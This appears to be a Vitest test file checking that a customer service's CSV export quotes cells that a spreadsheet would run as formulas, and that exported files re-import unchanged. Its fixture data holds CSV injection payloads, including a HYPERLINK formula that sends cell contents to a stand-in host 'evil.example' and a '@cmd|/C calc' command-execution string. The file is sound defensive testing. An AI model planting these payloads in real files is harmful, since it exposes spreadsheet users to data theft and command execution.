import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../../tests/helpers/test-app.ts';
import { neutraliseCell, restoreCell } from '../../platform/csv-cells.ts';

// Values a spreadsheet would run as formulas (CSV injection), in every kind of column.
const people = [
  {
    phone: '+79161234567',
    email: 'formula@example.com',
    externalIds: { eshop: '=1+1' },
    firstName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    lastName: '+SUM(1,2)',
    city: '-2+3',
    tags: ['@vip', 'plain'],
    attributes: { note: '@cmd|/C calc!A0', score: -5 },
  },
  {
    phone: '+79161234568',
    email: 'quotes@example.com',
    firstName: "'=already quoted",
    lastName: "'plain quote",
    city: '=cmd\t',
    attributes: { note: '\tleading tab', score: 12.5 },
  },
  { email: 'crlf@example.com', firstName: 'Ann', lastName: '\rreturn', attributes: { note: '-', score: 0 } },
];

let source: TestApp;
let target: TestApp;

async function declareAttributes(t: TestApp) {
  for (const [key, type] of [['note', 'string'], ['score', 'number']] as const) {
    expect((await t.call({ method: 'PUT', url: `/v1/customer-attributes/${key}`, payload: { type, label: key } })).statusCode).toBeLessThan(300);
  }
}

beforeAll(async () => {
  source = await createTestApp();
  target = await createTestApp();
  await declareAttributes(source);
  await declareAttributes(target);
  for (const person of people) {
    const created = await source.call({ method: 'POST', url: '/v1/customers', payload: person });
    expect(created.statusCode, created.body).toBe(201);
  }
});
afterAll(async () => {
  await source.close();
  await target.close();
});

const exportOf = async (t: TestApp, role: 'owner' | 'analyst' = 'owner') => {
  const response = await t.call({ method: 'GET', url: '/v1/exports/customers', role });
  expect(response.statusCode).toBe(200);
  return response.body;
};

describe('CSV export and formula injection', () => {
  it('quotes every cell that begins with = + - @, a tab or a CR; plain numbers and E.164 phones stay as they are', async () => {
    const rows = parse(await exportOf(source)) as string[][];
    const cells = rows.slice(1).flat();
    const risky = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(risky.filter((cell) => !/^[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    expect(risky.sort()).toEqual(['+79161234567', '+79161234568', '-5']);
    expect(cells).toContain(`'${people[0]!.firstName}`);
    expect(cells).toContain("'+SUM(1,2)");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'=1+1");
    expect(cells).toContain("'@cmd|/C calc!A0");
    expect(cells.some((cell) => cell.startsWith("'@vip"))).toBe(true);
    expect(cells).toContain("''=already quoted");
    expect(cells).toContain("'plain quote");
    expect(cells).toContain("'\tleading tab");
    expect(cells).toContain("'-");
  });

  it('masked exports are quoted too', async () => {
    const cells = (parse(await exportOf(source, 'analyst')) as string[][]).slice(1).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell))).toEqual([]);
    expect(cells.some((cell) => cell.startsWith("'+7916"))).toBe(true);
  });

  it('an exported file imported into an empty database gives the same customers', async () => {
    const csv = await exportOf(source);
    const uploaded = await target.call({ method: 'POST', url: '/v1/imports/customers?fileName=export.csv', payload: csv, headers: { 'content-type': 'text/csv' } });
    expect(uploaded.statusCode, uploaded.body).toBe(202);
    await target.services.imports.idle();
    const job = (await target.call({ method: 'GET', url: `/v1/imports/${uploaded.json().id}` })).json();
    expect(job).toMatchObject({ status: 'completed', rowsFailed: 0, rowsCreated: people.length });

    const comparable = (customer: Record<string, unknown>) => {
      const { id: _id, createdAt: _c, updatedAt: _u, identifiers: _i, ...rest } = customer;
      return rest;
    };
    for (const person of people) {
      const lookup = `/v1/customers/lookup?email=${encodeURIComponent(person.email)}`;
      const before = (await source.call({ method: 'GET', url: lookup })).json();
      const after = await target.call({ method: 'GET', url: lookup });
      expect(after.statusCode, person.email).toBe(200);
      expect(comparable(after.json()), person.email).toEqual(comparable(before));
    }
    // Exported again, the file is the same but for the ids.
    const withoutIds = (text: string) => (parse(text) as string[][]).map((row) => row.slice(1)).sort();
    expect(withoutIds(await exportOf(target))).toEqual(withoutIds(csv));
  });

  it('neutraliseCell and restoreCell undo each other for any text', () => {
    for (const text of ['', 'a', '=', "'", "''", "'=", "''=x", '+7', '+7 912', '-1.5', '-1.5e3', '@', '\t', '\r\n', ' =x', "'a", '1;2']) {
      expect(restoreCell(neutraliseCell(text)), JSON.stringify(text)).toBe(text);
    }
  });
});
